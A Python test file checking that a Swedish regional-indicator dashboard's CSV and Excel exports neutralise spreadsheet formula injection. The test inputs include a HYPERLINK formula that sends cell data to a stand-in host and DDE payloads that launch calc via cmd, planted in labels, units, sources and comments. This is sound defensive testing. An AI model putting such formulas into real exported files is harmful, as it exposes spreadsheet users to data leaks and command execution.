"""No formula ever runs from a file we write: every CSV and Excel writer (the Excel report, the
dashboard's downloads, `ingest snapshot`, `ingest status --format csv`) puts text that a
spreadsheet would take for a formula through the one rule of ``ingest.cells``: in CSV with a
leading apostrophe, in xlsx as a string cell shown as typed (quotePrefix)."""

import csv
import io
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ingest.cells import formula_like, safe_cell, safe_text, xlsx_row
from ingest.config import load_config
from ingest.store import Store

ROOT = Path(__file__).parent.parent
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
LABEL = "@SUM(1+1)*cmd|' /C calc'!A0"
UNIT = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("text, written", [
    (FORMULA, "'" + FORMULA), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("+46 70 123", "+46 70 123"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    (LABEL, "'" + LABEL), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("BRP per invånare", "BRP per invånare"), ("-", "-"), ("-0.5", "-0.5"), ("-1,5 %", "-1,5 %"), ("+23,0 %", "+23,0 %"),
    ("bell\x07", "bell"), ("", ""),
])
def test_text_that_a_spreadsheet_would_run_is_written_as_text(text, written):
    assert safe_text(text) == written


def test_numbers_and_empty_cells_are_left_as_they_are():
    assert [safe_cell(v) for v in (-5, -0.5, None, 2.0)] == [-5, -0.5, None, 2.0]


BULLET = "- Ny mätning från 2026.\n- Gäller hela länet."
HARMLESS = ["-2+3 tkr", BULLET, "+46 70 123 45 67 (sekretariatet)", "@sekretariatet"]


@pytest.mark.parametrize("text", [FORMULA, LABEL, UNIT, *HARMLESS, "\t=1+1"])
def test_xlsx_writes_formula_like_text_as_typed_in_a_text_cell_that_never_runs(tmp_path, text):
    """In xlsx a string cell cannot run, so the text is kept as typed (no visible apostrophe) and
    marked quotePrefix, as Excel marks text typed after an apostrophe; CSV keeps the apostrophe."""
    book = openpyxl.Workbook()
    xlsx_row(book.active, ["BRP per invånare", text, -0.5, None, "-1,5 %"])
    book.save(tmp_path / "t.xlsx")
    row = next(openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    assert formula_like(text) and safe_text(text) == "'" + text
    assert [c.value for c in row[:3]] == ["BRP per invånare", text, -0.5] and row[4].value == "-1,5 %"
    assert [c.data_type for c in row] == ["s", "s", "n", "n", "s"]
    assert [c.quotePrefix for c in row] == [False, True, False, False, False]  # only where it is formula-like
    with zipfile.ZipFile(tmp_path / "t.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "'" + text[:5] not in sheet  # no formula element, no apostrophe written


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The shipped configuration and data, with a formula as an indicator's label, a dataset's
    label and a hand-kept figure's source, and a formula as the secretariat's comment."""
    from ingest.commentary import add_comment
    from ingest.run import run_offline
    from ingest.writing import recompute, writing

    folder = tmp_path_factory.mktemp("cells")
    shutil.copytree(ROOT / "data" / "snapshot", folder / "data" / "snapshot")
    (folder / "data" / "manual").mkdir()
    rows = list(csv.DictReader((ROOT / "data" / "manual" / "strategy_figures.csv").open(encoding="utf-8")))
    rows[0]["source"] = FORMULA
    with (folder / "data" / "manual" / "strategy_figures.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    text = (ROOT / "indicators.yml").read_text(encoding="utf-8")
    text = text.replace('label: {sv: "BRP per invånare", en: "GRP per inhabitant"}',
                        f"label: {{sv: '{FORMULA}', en: 'GRP per inhabitant'}}", 1)
    text = text.replace('unit: {sv: "tusen kronor per invånare", en: "thousand SEK per inhabitant"}',
                        f'unit: {{sv: "{UNIT}", en: "thousand SEK per inhabitant"}}', 1)
    dataset_label = 'label: {sv: "BRP, tusen kronor per invånare (SCB)", en: "GRP, thousand SEK per inhabitant (SCB)"}'
    assert dataset_label in text  # the fixture changes what the shipped configuration says
    text = text.replace(dataset_label, f'label: "{LABEL}"', 1)
    (folder / "indicators.yml").write_text(text, encoding="utf-8")
    config = load_config(folder / "indicators.yml")
    db = folder / "s3.db"
    with writing(db, "run") as (store, operation):
        run_offline(config, store, folder / "data" / "snapshot")
        recompute(config, store, operation)
        add_comment(config, store, "norrbotten", FORMULA, "Anna Berg", indicator="grp_per_inhabitant")
    return config, db, folder


def cells(sheet):
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(book):
    for sheet in book.worksheets:
        for cell in cells(sheet):
            assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_the_excel_report_writes_a_formula_comment_and_label_as_text(hostile, tmp_path):
    from dashboard.report.content import build
    from dashboard.report.excel import write_xlsx

    config, db, _ = hostile
    out = write_xlsx(build(config, db, "norrbotten"), tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(out)
    assert_no_formula(book)
    summary = book["Sammanfattning"]
    row = next(r for r in summary.iter_rows(min_row=2) if r[1].value == FORMULA)  # the label, as typed
    head = next(r for r in summary.iter_rows(values_only=True) if r[:2] == ("Område", "Indikator"))
    comment = row[head.index("Sekretariatets kommentar")]
    assert comment.value.startswith(FORMULA + " ")  # the comment as written, with its byline after it
    for cell in (row[1], comment, row[head.index("Enhet")]):
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    assert row[head.index("Enhet")].value == UNIT
    assert not any(c.quotePrefix for c in row if c.value is not None and not str(c.value).startswith(("=", "-2")))
    values = [c for c in cells(book["Värden"]) if c.value == FORMULA]
    assert values and all(c.data_type == "s" and c.quotePrefix for c in values)
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for s in book.worksheets for c in cells(s))


def test_the_dashboards_downloads_write_formula_labels_as_text(hostile):
    import dashboard.app  # noqa: F401  (the pages register with the app)
    from dashboard.downloads import csv_text, xlsx_bytes
    from dashboard.pages import compare, data
    from dashboard.state import read_state

    config, db, _ = hostile
    state = read_state(config, {"strategy": "norrbotten", "indicator": "grp_per_inhabitant"})
    datasets = data.datasets_table(config, db, state)
    counties = compare.counties_table(config, db, state)
    for table, formula in ((datasets, LABEL), (counties, UNIT)):
        book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, "sv")))
        assert_no_formula(book)
        written = [c for c in cells(book.active) if isinstance(c.value, str) and c.value.startswith(formula)]
        assert written and all(c.data_type == "s" and c.quotePrefix for c in written), table.kind
        assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in cells(book.active))
        for flavour, separator in (("csv", ";"), ("csv-machine", ",")):
            written = [c for row in csv.reader(io.StringIO(csv_text(table, flavour)), delimiter=separator) for c in row]
            assert "'" + formula in written or any(c.startswith("'" + formula) for c in written), (table.kind, flavour)
            assert not any(c.startswith(("=", "@", "-2")) for c in written)
    assert counties.caption.endswith(", " + counties.meta["Period"]) and FORMULA in counties.caption  # the page shows it as the text it is


def test_snapshot_output_writes_a_hand_kept_formula_as_text(hostile, tmp_path):
    from ingest.snapshot import export_snapshot

    config, db, _ = hostile
    with Store(db, readonly=True) as store:
        export_snapshot(store, config, tmp_path / "snapshot", built_from="test")
    rows = list(csv.DictReader((tmp_path / "snapshot" / "strategy_figures.csv").open(encoding="utf-8")))
    assert any(r["source"] == "'" + FORMULA for r in rows)
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)


def test_status_csv_writes_a_formula_label_as_text(hostile):
    import subprocess
    import sys

    _, db, folder = hostile
    done = subprocess.run([sys.executable, "-m", "ingest", "status", "--config", str(folder / "indicators.yml"), "--db", str(db),
                           "--strategy", "norrbotten", "--format", "csv"], capture_output=True, text=True, cwd=folder)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert next(r for r in rows if r["indicator"] == "grp_per_inhabitant")["label"] == "'" + FORMULA
